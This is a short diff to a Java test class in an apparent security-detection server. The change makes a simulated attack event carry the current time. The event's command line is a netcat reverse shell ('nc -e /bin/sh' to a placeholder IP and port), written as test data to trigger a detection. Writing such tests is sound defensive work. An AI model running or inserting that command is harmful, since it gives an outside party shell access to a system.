@@ -2,6 +2,7 @@ package dev.panoptes.server.detections;
 
 import dev.panoptes.server.TestServer;
 import java.io.IOException;
+import java.time.Instant;
 import java.util.Map;
 import java.util.UUID;
 
@@ -18,7 +19,7 @@ public final class SentAttack {
                 .json()
                 .path("token")
                 .asString();
-        String event = "{\"@timestamp\":\"2026-03-01T05:59:00Z\",\"event\":{\"id\":\"attack-1\",\"action\":"
+        String event = "{\"@timestamp\":\"" + Instant.now() + "\",\"event\":{\"id\":\"attack-1\",\"action\":"
                 + "\"process_started\",\"dataset\":\"panoptes.proc\"},\"host\":{\"name\":\"attacked-1\"},\"process\":"
                 + "{\"executable\":\"/usr/bin/nc\",\"command_line\":\"nc -e /bin/sh 192.0.2.7 4444\"}}";
         server.call(
